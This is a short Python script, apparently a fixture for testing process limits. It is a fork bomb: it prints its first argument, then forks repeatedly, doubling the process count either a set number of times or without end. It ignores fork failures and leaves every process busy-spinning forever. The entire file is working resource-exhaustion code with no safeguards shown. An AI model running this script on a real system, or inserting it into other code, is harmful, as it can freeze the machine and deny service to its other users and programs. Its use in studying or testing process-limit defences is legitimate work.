"""Doubles itself, argv[2] times or for ever, takes no refusal, and then spins."""
import os
import sys

print(sys.argv[1], flush=True)
doublings = int(sys.argv[2]) if len(sys.argv) > 2 else -1
while True:
    if doublings == 0:
        continue
    doublings -= 1
    try:
        os.fork()
    except OSError:
        pass
